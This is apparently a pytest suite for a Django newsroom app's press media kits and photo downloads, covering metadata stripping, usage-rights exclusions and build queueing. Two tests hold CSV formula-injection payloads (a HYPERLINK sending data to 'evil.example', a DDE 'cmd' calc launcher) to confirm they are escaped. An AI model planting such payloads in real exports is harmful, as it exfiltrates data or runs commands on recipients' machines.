"""Media kits and photo downloads: what a journalist gets, and when."""

import csv
import io
import zipfile
from io import StringIO

import pytest
from django.core.files.storage import FileSystemStorage
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone
from django_tasks_db.models import DBTaskResult
from PIL import ExifTags, Image

from articles.models import Article
from core.models import SiteSettings
from media_library.models import Photo
from media_library.processing import photo_generate_renditions
from media_library.services import photo_create, photo_save
from media_library.storage import originals_storage
from press import media_kit, tasks
from press.models import MediaKit
from tests.factories import ArticleFactory, DocumentFactory, SpokespersonFactory, make_photo
from tests.media_library import images

pytestmark = pytest.mark.django_db

DATABASE_TASKS = {"default": {"BACKEND": "django_tasks_db.DatabaseBackend", "QUEUES": ["default"]}}
PDF = b"%PDF-1.4\n%report body\n%%EOF\n"


def _photo(**kwargs):
    kwargs.setdefault("alt_text", "Families wait at a border crossing")
    kwargs.setdefault("caption", "Families wait to cross at dawn.")
    kwargs.setdefault("credit", "Photo by Ana Ruiz / Agencia Sur")
    kwargs.setdefault("copyright", "Agencia Sur")
    kwargs.setdefault("usage_rights", "creative-commons")
    kwargs.setdefault("usage_notes", "CC BY 4.0, with credit")
    return make_photo(
        file=images.upload("border.jpg", images.jpeg_with_gps(width=1800, height=1200)), **kwargs
    )


def _article(photo=None, **kwargs):
    kwargs.setdefault("slug", "facing-walls")
    kwargs.setdefault("title", "Facing Walls: USA and Mexico's violations")
    kwargs.setdefault("kind", Article.Kind.REPORT)
    kwargs.setdefault(
        "body",
        '<p>An already <a href="https://example.org/x">dangerous</a> journey.</p>'
        "<ul><li>First finding</li><li>Second finding</li></ul>",
    )
    article = ArticleFactory(hero_photo=photo, **kwargs)
    document = DocumentFactory(
        title="Full report", file__filename="Facing Walls.pdf", file__data=PDF
    )
    article.attachments.add(document)
    article.spokespeople.add(
        SpokespersonFactory(
            name="Erika Guevara", email="erika@example.org", phone="+52 55 1234 5678"
        )
    )
    return article


def _built(article):
    assert media_kit.build(article.pk)
    return MediaKit.objects.get(article=article)


def _zip(kit):
    with originals_storage().open(kit.path, "rb") as fh:
        return zipfile.ZipFile(io.BytesIO(fh.read()))


class TestContents:
    def test_photos_credits_attachments_and_release_text(self):
        article = _article(_photo())
        archive = _zip(_built(article))
        assert sorted(archive.namelist()) == [
            "CREDITS.csv",
            "facing-walls-01-ana-ruiz.jpg",
            "facing-walls.pdf",
            "facing-walls.txt",
        ]
        assert archive.testzip() is None
        assert archive.read("facing-walls.pdf") == PDF

        rows = list(csv.DictReader(io.StringIO(archive.read("CREDITS.csv").decode("utf-8-sig"))))
        assert rows == [
            {
                "file": "facing-walls-01-ana-ruiz.jpg",
                "caption": "Families wait to cross at dawn.",
                "credit": "Photo by Ana Ruiz / Agencia Sur",
                "copyright": "Agencia Sur",
                "usage terms": "Creative Commons: CC BY 4.0, with credit",
            }
        ]

        text = archive.read("facing-walls.txt").decode()
        assert text.startswith("Facing Walls: USA and Mexico's violations\nReport · ")
        assert article.summary in text
        assert "An already dangerous (https://example.org/x) journey." in text
        assert "- First finding\n- Second finding" in text
        assert "<" not in text
        assert "Erika Guevara, Regional Director, erika@example.org, +52 55 1234 5678" in text
        assert SiteSettings.load().press_email in text
        assert "http://" in text and "/news/facing-walls/" in text

    def test_no_gps_exif_or_device_data_in_any_file(self):
        article = _article(_photo())
        archive = _zip(_built(article))
        for name in archive.namelist():
            data = archive.read(name)
            assert b"Secret Camera Co" not in data, name
            if name.endswith(".jpg"):
                image = Image.open(io.BytesIO(data))
                assert (image.width, image.height) == (1800, 1200)
                assert not image.getexif()
                assert not image.getexif().get_ifd(ExifTags.IFD.GPSInfo)
                assert b"Agencia Sur" in image.info["xmp"]

    def test_photo_not_offered_for_download_stays_out(self):
        article = _article(_photo(downloadable=False))
        archive = _zip(_built(article))
        assert not [n for n in archive.namelist() if n.endswith(".jpg")]
        rows = list(csv.reader(io.StringIO(archive.read("CREDITS.csv").decode("utf-8-sig"))))
        assert [row[0] for row in rows] == [
            media_kit.CREDITS_FIELDS[0],
            "not included: shown on our own pages only; ask the press office",
        ]

    def test_article_caption_override_is_the_kit_caption(self):
        article = _article(_photo(), hero_caption="Our own caption.")
        archive = _zip(_built(article))
        assert "Our own caption." in archive.read("CREDITS.csv").decode("utf-8-sig")

    @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", " =", "\n@"])
    def test_credits_typed_as_formulas_reach_the_spreadsheet_as_text(self, start):
        formula = f'{start}HYPERLINK("https://evil.example/?d="&A2,"Credit: AP")'
        photo = _photo(
            caption=f"{start}cmd|' /C calc'!A0",
            credit=formula,
            copyright=f"{start}1+1",
            usage_notes="-only with credit",
        )
        archive = _zip(_built(_article(photo, hero_caption="")))
        [row] = list(csv.DictReader(io.StringIO(archive.read("CREDITS.csv").decode("utf-8-sig"))))
        assert row["credit"] == "'" + formula
        assert row["caption"] == f"'{start}cmd|' /C calc'!A0"
        assert row["copyright"] == f"'{start}1+1"
        # Not at the start of the cell: the terms begin with the rights, not the notes.
        assert row["usage terms"] == "Creative Commons: -only with credit"

    def test_a_caption_override_typed_as_a_formula_is_text(self):
        article = _article(_photo(), hero_caption="@SUM(1+1)*cmd|' /C calc'!A0")
        [row] = list(
            csv.DictReader(
                io.StringIO(_zip(_built(article)).read("CREDITS.csv").decode("utf-8-sig"))
            )
        )
        assert row["caption"] == "'@SUM(1+1)*cmd|' /C calc'!A0"

    def test_waits_for_a_photo_whose_download_is_not_made(self):
        photo = photo_create(
            file=images.upload("a.jpg", images.jpeg_with_gps()),
            alt_text="A",
            generate_renditions=False,
        )
        article = _article(photo)
        assert not media_kit.build(article.pk)
        assert not MediaKit.objects.filter(article=article).exclude(path="").exists()

    def test_rebuild_only_when_the_contents_change(self, django_capture_on_commit_callbacks):
        article = _article(_photo())
        first = _built(article)
        assert not media_kit.build(article.pk)
        Article.objects.filter(pk=article.pk).update(summary="A new summary.")
        with django_capture_on_commit_callbacks(execute=True):
            second = _built(article)
        assert second.version != first.version
        assert second.path != first.path
        assert not originals_storage().exists(first.path)
        assert "A new summary." in _zip(second).read("facing-walls.txt").decode()

    def test_draft_loses_its_kit(self, django_capture_on_commit_callbacks):
        article = _article(_photo())
        kit = _built(article)
        with django_capture_on_commit_callbacks(execute=True):
            article.status = Article.Status.DRAFT
            article.save()
        assert not MediaKit.objects.filter(article=article).exists()
        assert not originals_storage().exists(kit.path)

    def test_deleting_the_article_deletes_its_kit(self, django_capture_on_commit_callbacks):
        article = _article(_photo())
        kit = _built(article)
        with django_capture_on_commit_callbacks(execute=True):
            article.delete()
        assert not originals_storage().exists(kit.path)

    @pytest.mark.parametrize(
        ("credit", "expected"),
        [
            ("Photo by Jane Doe / Agency", "jane-doe"),
            ("© José Álvarez", "jose-alvarez"),
            ("Reuters", "reuters"),
            ("", "photo"),
            ("///", "photo"),
        ],
    )
    def test_photographer_in_the_file_name(self, credit, expected):
        assert media_kit.photographer_slug(credit) == expected


class TestRightsLeaveOut:
    """What the rights forbid stays out of the kit and the downloads, and CREDITS.csv
    says why."""

    def _credits(self, article):
        archive = _zip(_built(article))
        assert not [n for n in archive.namelist() if n.endswith(".jpg")]
        text = archive.read("CREDITS.csv").decode("utf-8-sig")
        return list(csv.DictReader(io.StringIO(text)))

    @pytest.mark.parametrize(
        ("rights", "why"),
        [
            ("licensed", "licensed for our use only"),
            ("editorial", "licensed to us for editorial use only"),
            ("restricted", "its rights are restricted"),
        ],
    )
    def test_a_photo_the_rights_forbid_is_a_line_saying_why(self, rights, why):
        article = _article(_photo(usage_rights=rights, usage_notes=""))
        assert self._credits(article) == [
            {
                "file": f"not included: {why}; ask the press office",
                "caption": "Families wait to cross at dawn.",
                "credit": "Photo by Ana Ruiz / Agencia Sur",
                "copyright": "Agencia Sur",
                "usage terms": Photo(usage_rights=rights).get_usage_rights_display(),
            }
        ]

    def test_a_photo_not_offered_is_a_line_saying_so(self):
        article = _article(_photo(usage_rights="owned", downloadable=False))
        [row] = self._credits(article)
        assert row["file"] == "not included: shown on our own pages only; ask the press office"

    def test_a_confirmed_offer_is_in_the_kit(self, editor):
        photo = _photo(usage_rights="editorial")
        Photo.objects.filter(pk=photo.pk).update(
            downloadable=True, download_confirmed_by=editor, download_confirmed_at=timezone.now()
        )
        photo.refresh_from_db()
        photo_generate_renditions(photo=photo)
        archive = _zip(_built(_article(photo)))
        assert "facing-walls-01-ana-ruiz.jpg" in archive.namelist()

    @pytest.mark.parametrize("rights", ["licensed", "editorial", "restricted"])
    def test_no_download_and_no_link_on_the_page(self, client, rights):
        photo = _photo(usage_rights=rights)
        article = _article(photo)
        url = reverse("downloads:photo_download", args=[article.slug, photo.pk])
        assert client.get(url).status_code == 404
        page = client.get(article.get_absolute_url()).content.decode()
        assert "Download high-resolution photo" not in page
        assert url not in page
        assert "not available for download" in page
        assert "Credit: Photo by Ana Ruiz / Agencia Sur." in page
        # The kit is still offered: the text, the credits and the PDF.
        assert 'href="/news/facing-walls/media-kit.zip"' in page

    def test_rights_changed_after_the_kit_was_built_take_the_photo_out(self, client):
        photo = _photo(usage_rights="owned")
        article = _article(photo)
        assert any(n.endswith(".jpg") for n in _zip(_built(article)).namelist())
        photo.usage_rights, photo.downloadable = "licensed", False
        photo_save(photo=photo, file_changed=False)
        photo_generate_renditions(photo=photo)
        article = Article.objects.get(pk=article.pk)
        archive = _zip(_built(article))
        assert not [n for n in archive.namelist() if n.endswith(".jpg")]
        url = reverse("downloads:photo_download", args=[article.slug, photo.pk])
        assert client.get(url).status_code == 404


class TestMediaKitUrl:
    def test_not_built_answers_503_with_retry_after_and_queues_one_build(self, client, settings):
        settings.TASKS = DATABASE_TASKS
        article = _article(_photo())
        DBTaskResult.objects.all().delete()
        MediaKit.objects.all().delete()
        url = reverse("downloads:media_kit", args=[article.slug])
        assert url == "/news/facing-walls/media-kit.zip"
        response = client.get(url)
        assert response.status_code == 503
        assert response["Retry-After"] == "30"
        assert "no-store" in response["Cache-Control"]
        assert "being prepared" in response.content.decode()
        assert response["Content-Type"].startswith("text/html")
        # The build was queued, not made in the request.
        assert MediaKit.objects.get(article=article).queued_at is not None
        assert MediaKit.objects.get(article=article).path == ""

    def test_queued_once_for_many_requests(
        self, client, settings, django_capture_on_commit_callbacks
    ):
        settings.TASKS = DATABASE_TASKS
        article = _article(_photo())
        DBTaskResult.objects.all().delete()
        MediaKit.objects.all().delete()
        url = reverse("downloads:media_kit", args=[article.slug])
        with django_capture_on_commit_callbacks(execute=True):
            for _ in range(3):
                assert client.get(url).status_code == 503
        assert DBTaskResult.objects.filter(task_path__endswith="build_media_kit").count() == 1

    def test_a_kit_being_prepared_is_not_logged_as_a_server_error(self, client, caplog):
        article = _article(_photo())
        MediaKit.objects.all().delete()
        with caplog.at_level("WARNING", logger="django.request"):
            assert client.get(f"/news/{article.slug}/media-kit.zip").status_code == 503
        assert not caplog.records

    def test_built_kit_is_an_attachment_with_its_length(self, client):
        article = _article(_photo())
        kit = _built(article)
        response = client.get(reverse("downloads:media_kit", args=[article.slug]))
        assert response.status_code == 200
        assert response.streaming
        assert response["Content-Type"] == "application/zip"
        assert response["Content-Disposition"] == (
            'attachment; filename="facing-walls-media-kit.zip"'
        )
        body = b"".join(response.streaming_content)
        assert int(response["Content-Length"]) == len(body) == kit.size
        assert zipfile.ZipFile(io.BytesIO(body)).testzip() is None

    def test_a_stale_kit_is_never_served(self, client):
        article = _article(_photo())
        _built(article)
        article.title = "A corrected title"
        article.save()
        response = client.get(reverse("downloads:media_kit", args=[article.slug]))
        assert response.status_code == 503

    def test_missing_file_is_treated_as_not_built(self, client):
        article = _article(_photo())
        originals_storage().delete(_built(article).path)
        assert client.get(reverse("downloads:media_kit", args=[article.slug])).status_code == 503

    @pytest.mark.parametrize("state", ["draft", "scheduled"])
    def test_only_live_articles(self, client, state):
        article = _article(_photo(), **{state: True})
        media_kit.build(article.pk)
        assert client.get(reverse("downloads:media_kit", args=[article.slug])).status_code == 404
        assert client.get("/news/no-such-article/media-kit.zip").status_code == 404

    def test_post_is_not_allowed(self, client):
        article = _article(_photo())
        assert client.post(reverse("downloads:media_kit", args=[article.slug])).status_code == 405


class TestPhotoDownloadUrl:
    def test_full_size_attachment_named_as_in_the_kit(self, client):
        photo = _photo()
        article = _article(photo)
        url = reverse("downloads:photo_download", args=[article.slug, photo.pk])
        response = client.get(url)
        assert response.status_code == 200
        assert response["Content-Type"] == "image/jpeg"
        assert response["Content-Disposition"] == (
            'attachment; filename="facing-walls-01-ana-ruiz.jpg"'
        )
        body = b"".join(response.streaming_content)
        assert int(response["Content-Length"]) == len(body) == photo.download().size
        assert not Image.open(io.BytesIO(body)).getexif()

    def test_refused_for_photos_not_offered_or_not_the_articles(self, client):
        kept = _photo(downloadable=False)
        article = _article(kept)
        other = _photo()
        for photo_id in (kept.pk, other.pk, 999999):
            url = reverse("downloads:photo_download", args=[article.slug, photo_id])
            assert client.get(url).status_code == 404

    def test_only_live_articles(self, client):
        photo = _photo()
        article = _article(photo, scheduled=True)
        url = reverse("downloads:photo_download", args=[article.slug, photo.pk])
        assert client.get(url).status_code == 404


class TestArticlePage:
    def test_photo_download_credit_terms_kit_and_report(self, client):
        photo = _photo()
        article = _article(photo)
        kit = _built(article)
        page = client.get(article.get_absolute_url()).content.decode()
        download = photo.download()
        size = f"{download.size / 1024:.1f} KB"
        assert f"Download high-resolution photo (JPEG, 1800 \u00d7 1200, {size})" in page
        assert reverse("downloads:photo_download", args=[article.slug, photo.pk]) in page
        assert "Credit: Photo by Ana Ruiz / Agencia Sur." in page
        assert "© Agencia Sur." in page
        assert "Usage: Creative Commons — CC BY 4.0, with credit." in page
        assert f"Media kit (ZIP, {kit.size / 1024:.1f} KB)" in page
        assert 'href="/news/facing-walls/media-kit.zip"' in page
        # The report's PDF comes right under the standfirst, before the photo.
        report = page.index("Download the full report (PDF, ")
        assert page.index('class="article__summary"') < report < page.index("article__hero")

    def test_photo_not_offered_shows_credit_and_no_download(self, client):
        photo = _photo(downloadable=False)
        article = _article(photo)
        page = client.get(article.get_absolute_url()).content.decode()
        assert "Download high-resolution photo" not in page
        assert "Credit: Photo by Ana Ruiz / Agencia Sur." in page
        assert "not available for download" in page
        assert f"/photos/{photo.pk}.jpg" not in page

    def test_kit_link_before_it_is_built_has_no_size(self, client):
        article = _article(_photo())
        page = client.get(article.get_absolute_url()).content.decode()
        assert "Media kit (ZIP)" in page

    def test_query_budget_with_every_download(self, client, django_assert_max_num_queries):
        SiteSettings.load()
        article = _article(_photo())
        _built(article)
        with django_assert_max_num_queries(10):
            response = client.get(article.get_absolute_url())
        assert response.status_code == 200
        assert "Media kit (ZIP, " in response.content.decode()


@pytest.mark.django_db(transaction=True, serialized_rollback=True)
def test_edits_rebuild_the_kit_through_the_worker(settings):
    """The whole path: editing an article or its photo queues one build, the worker
    builds it, and the kit follows the content."""
    settings.TASKS = DATABASE_TASKS

    def run_worker():
        call_command("db_worker", "--batch", "--no-startup-delay", stdout=StringIO())

    photo = photo_create(
        file=images.upload("a.jpg", images.jpeg_with_gps()),
        alt_text="A",
        credit="Photo by Ana Ruiz",
    )
    article = ArticleFactory(slug="walls", hero_photo=photo)
    run_worker()
    kit = MediaKit.objects.get(article=article)
    assert kit.path and kit.queued_at is None
    assert "walls-01-ana-ruiz.jpg" in _zip(kit).namelist()

    # Two edits in a row: one build queued.
    article.summary = "First edit."
    article.save()
    article.summary = "Second edit."
    article.save()
    pending = DBTaskResult.objects.filter(task_path__endswith="build_media_kit", status="READY")
    assert pending.count() == 1
    run_worker()
    assert "Second edit." in _zip(MediaKit.objects.get(article=article)).read("walls.txt").decode()

    # A new credit: the photo's download is remade first, then the kit.
    photo.credit = "Photo by Someone Else"
    photo_save(photo=photo, file_changed=False)
    run_worker()
    run_worker()
    names = _zip(MediaKit.objects.get(article=article)).namelist()
    assert "walls-01-someone-else.jpg" in names


@pytest.mark.django_db(transaction=True, serialized_rollback=True)
def test_storage_failure_is_retried_and_the_page_keeps_working(settings, client, monkeypatch):
    """A full disk or unreachable storage fails the build, which is retried later; the
    journalist meanwhile gets the 'being prepared' page, never an error."""
    settings.TASKS = DATABASE_TASKS
    article = ArticleFactory(slug="walls")
    DBTaskResult.objects.all().delete()

    def broken_save(*args, **kwargs):
        raise OSError("No space left on device")

    monkeypatch.setattr(FileSystemStorage, "save", broken_save)
    tasks.build_media_kit.enqueue(article_id=article.pk)
    call_command("db_worker", "--batch", "--no-startup-delay", stdout=StringIO())
    assert DBTaskResult.objects.filter(status="FAILED").count() == 1
    retry = DBTaskResult.objects.get(status="READY")
    assert retry.run_after is not None
    assert retry.args_kwargs["kwargs"] == {"article_id": article.pk, "attempt": 2}
    assert client.get("/news/walls/media-kit.zip").status_code == 503
